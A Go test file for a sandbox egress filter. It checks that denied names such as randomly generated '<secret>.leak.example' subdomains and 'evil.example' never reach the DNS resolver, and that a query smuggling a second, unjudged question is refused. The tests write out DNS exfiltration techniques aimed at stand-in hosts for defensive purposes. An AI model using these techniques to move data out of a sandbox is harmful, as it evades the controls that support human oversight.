package egress

import (
	"log/slog"
	"net"
	"net/netip"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// A DNS query is data leaving the sandbox: a name such as
// <secret>.leak.example reaches leak.example's servers through any
// resolver. Under a policy that denies everything not allowed, the
// resolver must never see a name the policy does not allow.
func TestDeniedNamesNeverLeaveByDNS(t *testing.T) {
	w := newWorld(t)
	pool, cidr := w.pool(t, "q")
	f := w.filter(t, cidr)
	s := acquire(t, pool)

	// The control: with the internet open, the resolver does receive a
	// sandbox's queries, so its silence below is the policy's doing.
	open := sb(t, s)
	probe := randomName("c") + ".leak.example"
	open.mustNotResolve(probe) // the test resolver does not know it
	if got := w.asked.containing(probe); len(got) == 0 {
		t.Fatalf("the resolver never saw %s from a sandbox with internet access: the recorder is broken", probe)
	}

	for _, tc := range []struct {
		name string
		p    Policy
		// allowedName resolves under p, through the resolver.
		allowedName string
	}{
		{name: "no internet", p: Policy{}},
		{name: "no internet, an address allowed", p: Policy{AllowOut: []string{"203.0.113.10"}}},
		{name: "no internet, a name allowed", p: Policy{AllowOut: []string{"good.example"}}, allowedName: "good.example"},
		{name: "0.0.0.0/0 denied, a wildcard allowed",
			p:           Policy{AllowInternet: true, AllowOut: []string{"*.wild.example"}, DenyOut: []string{"0.0.0.0/0"}},
			allowedName: "a.wild.example"},
		{name: "0.0.0.0/0 and a name denied", p: Policy{AllowInternet: true, DenyOut: []string{"0.0.0.0/0", "evil.example"}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			setPolicy(t, f, s, tc.p)
			box := sb(t, s)
			secret := randomName("s") + ".leak.example"
			box.mustNotResolve("udp." + secret)
			if ips, err := box.lookupVia("tcp."+secret, true); err == nil {
				t.Errorf("tcp.%s resolved to %v", secret, ips)
			}
			// A name the resolver knows, but the policy does not allow.
			box.mustNotResolve("evil.example")
			// A web connection naming it (to an address the policy may
			// allow) is judged without resolving that name either.
			box.get("https://web."+secret+"/", inetA)
			box.get("http://web."+secret+"/", inetA)
			for _, leaked := range [][]string{w.asked.containing(secret), w.asked.containing("evil.example")} {
				if len(leaked) > 0 {
					t.Errorf("the resolver received names the policy denies: %v", leaked)
				}
			}
			if tc.allowedName != "" {
				box.mustResolve(tc.allowedName, inetA)
				if len(w.asked.containing(tc.allowedName)) == 0 {
					t.Errorf("%s resolved without asking the resolver", tc.allowedName)
				}
			}
		})
	}
}

// A query is forwarded as it was sent, so one whose first question is
// allowed must not carry a second, unjudged name along.
func TestQueryWithMoreThanTheJudgedNameIsRefused(t *testing.T) {
	upstream, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer upstream.Close()
	got := make(chan []byte, 4)
	go func() {
		buf := make([]byte, 1500)
		for {
			n, from, err := upstream.ReadFrom(buf)
			if err != nil {
				return
			}
			got <- append([]byte(nil), buf[:n]...)
			var p dnsmessage.Parser
			if h, err := p.Start(buf[:n]); err == nil {
				upstream.WriteTo(reply(h, nil, dnsmessage.RCodeNameError), from)
			}
		}
	}()
	r, err := compile(Policy{AllowOut: []string{"good.example"}})
	if err != nil {
		t.Fatal(err)
	}
	s := &slotFilter{f: &Filter{cfg: Config{Resolver: netip.MustParseAddrPort(upstream.LocalAddr().String())}}, log: slog.New(slog.DiscardHandler)}
	s.rules.Store(r)
	query := func(names ...string) []byte {
		b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 7, RecursionDesired: true})
		b.StartQuestions()
		for _, n := range names {
			b.Question(dnsmessage.Question{Name: dnsmessage.MustNewName(n), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})
		}
		m, err := b.Finish()
		if err != nil {
			t.Fatal(err)
		}
		return m
	}
	rcode := func(resp []byte) dnsmessage.RCode {
		var p dnsmessage.Parser
		h, err := p.Start(resp)
		if err != nil {
			t.Fatalf("answer: %v", err)
		}
		return h.RCode
	}

	// The control: the allowed name alone is asked upstream.
	s.answer(query("good.example."), "udp")
	select {
	case <-got:
	case <-time.After(5 * time.Second):
		t.Fatal("the allowed name never reached the resolver: the recorder is broken")
	}
	if rc := rcode(s.answer(query("good.example.", "secret.leak.example."), "udp")); rc != dnsmessage.RCodeFormatError {
		t.Errorf("two questions answered %v, want a format error", rc)
	}
	select {
	case q := <-got:
		t.Errorf("a query with an unjudged second name reached the resolver (%d bytes)", len(q))
	case <-time.After(300 * time.Millisecond):
	}
}
